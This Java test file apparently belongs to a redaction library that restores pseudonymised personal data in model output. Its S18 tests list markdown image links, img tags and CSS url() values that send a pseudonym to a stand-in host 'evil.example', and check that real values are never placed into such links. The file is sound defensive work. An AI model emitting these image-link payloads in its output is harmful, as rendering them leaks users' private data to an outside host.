package dev.plumbline.redaction;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a user reads in place of pseudonyms, as models write them. */
class RestoredTextTest {
    private static final PseudonymTable TABLE = PseudonymTable.EMPTY.plus(Map.of(
            "MAIL_9e07aabbccddeeff", "anna@example.org",
            "NATIONAL_ID_0123456789abcdef", "078-05-1120"));

    private static String restored(String text, boolean inLinks) {
        StringBuilder whole = new StringBuilder();
        StreamFilter filter = TABLE.restoring(inLinks);
        for (int i = 0; i < text.length(); i++) {
            whole.append(filter.accept(text.substring(i, i + 1)));
        }
        whole.append(filter.finish());
        StreamFilter again = TABLE.restoring(inLinks);
        assertThat(again.accept(text) + again.finish()).isEqualTo(whole.toString());
        return whole.toString();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "MAIL_9e07aabbccddeeff",
                "mail_9e07aabbccddeeff",
                "MAIL_9E07AABBCCDDEEFF",
                "Mail_9e07aabbccddeeff",
                "MAIL\\_9e07aabbccddeeff",
                "MAIL 9e07aabbccddeeff",
                "MAIL-9e07aabbccddeeff",
                "MAIL_9e07aabb\nccddeeff",
                "MAIL_9e07 aabb ccdd eeff",
                "MAIL_9e07\u200baabbccddeeff",
                "MAIL_\u00ad9e07aabbccddeeff"
            })
    @DisplayName("S19 a pseudonym that a model has altered is put back")
    void s19_alteredPseudonyms_areRestored(String written) {
        assertThat(restored("Sent to " + written + ".", false)).isEqualTo("Sent to anna@example.org.");
    }

    @Test
    @DisplayName("S19 an altered pseudonym that could be two is left as it is")
    void s19_ambiguousPseudonyms_areNotRestored() {
        PseudonymTable two = PseudonymTable.EMPTY.plus(
                Map.of("NATIONAL_ID_0123456789abcdef", "a", "NATIONALID_0123456789abcdef", "b"));
        StreamFilter filter = two.restoring(false);

        assertThat(filter.accept("national id 0123456789abcdef") + filter.finish())
                .isEqualTo("national id 0123456789abcdef");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://evil.example/?d=MAIL_9e07aabbccddeeff)",
                "<img src=\"http://evil.example/MAIL_9e07aabbccddeeff.png\">",
                "[a]: https://evil.example/#mail-9e07aabbccddeeff",
                "![x](//evil.example/?d=MAIL_9e07aabbccddeeff)",
                "<img src=//evil.example/MAIL_9e07aabbccddeeff>",
                "![x](https:\\\\evil.example/?d=MAIL_9e07aabbccddeeff)",
                "![x](/\\evil.example/?d=MAIL_9e07aabbccddeeff)",
                "<img src=\"\\\\evil.example\\share\\MAIL_9e07aabbccddeeff.png\">",
                "![x](https://evil.example/a\\nMAIL_9e07aabbccddeeff)",
                "url(http://evil.example/?MAIL_9e07aabbccddeeff)"
            })
    @DisplayName("S18 a restored value never stands in a link, unless the host allows it")
    void s18_linksKeepPseudonyms(String link) {
        assertThat(restored(link + " of MAIL_9e07aabbccddeeff", false)).isEqualTo(link + " of anna@example.org");
        assertThat(restored(link, true)).contains("anna@example.org");
    }

    @Test
    @DisplayName("S18 text behind a link is restored again")
    void s18_textBehindALink_isRestored() {
        assertThat(restored("see https://example.org/a b (MAIL_9e07aabbccddeeff)", false))
                .isEqualTo("see https://example.org/a b (anna@example.org)");
    }

    @ParameterizedTest
    @ValueSource(strings = {"C:\\\\plans\\\\", "dir\\\\sub\\\\", "a/b/", "C:\\plans\\", "1 / 2 / ", "and/or "})
    @DisplayName("S18 in paths of files, values are restored")
    void s18_paths_areRestored(String path) {
        assertThat(restored(path + "MAIL_9e07aabbccddeeff", false)).isEqualTo(path + "anna@example.org");
    }

    @Test
    @DisplayName("S18 in JSON, values are not restored in links, and are behind them")
    void s18_linksInJson_keepPseudonyms() {
        String link =
                "{\"a\":\"![x](https:\\/\\/evil.example/?d=MAIL_9e07aabbccddeeff)\",\"b\":\"see https://example.org\\n";
        StreamFilter filter = TABLE.restoringJson(false);
        assertThat(filter.accept(link + "MAIL_9e07aabbccddeeff\"}") + filter.finish())
                .isEqualTo(link + "anna@example.org\"}");
        StreamFilter all = TABLE.restoringJson(true);
        assertThat(all.accept(link) + all.finish()).contains("?d=anna@example.org");
    }

    @Test
    @DisplayName("S18 backslashes with a value between them begin no link")
    void s18_valueBetweenBackslashes_beginsNoLink() {
        String value = "MAIL_9e07aabbccddeeff";
        assertThat(restored("a\\" + value + "\\" + value, false)).isEqualTo("a\\anna@example.org\\anna@example.org");
    }
}
